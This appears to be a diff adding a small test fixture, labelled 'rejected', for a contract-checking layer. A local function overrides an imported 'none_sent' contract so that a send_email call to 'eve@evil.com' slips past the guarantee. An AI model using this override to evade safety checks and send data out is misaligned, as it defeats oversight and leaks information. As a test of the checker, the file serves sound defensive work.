@@ -1,0 +1,13 @@
+# rejected: a def replaces the imported contract
+import lictor_layer
+from tools.desk.trusted.effects import send_email
+from tools.desk.trusted.contracts import none_sent
+
+
+def none_sent():
+    return None
+
+
+@lictor_layer.guarantee(none_sent())
+def main() -> None:
+    send_email("eve@evil.com", "x")
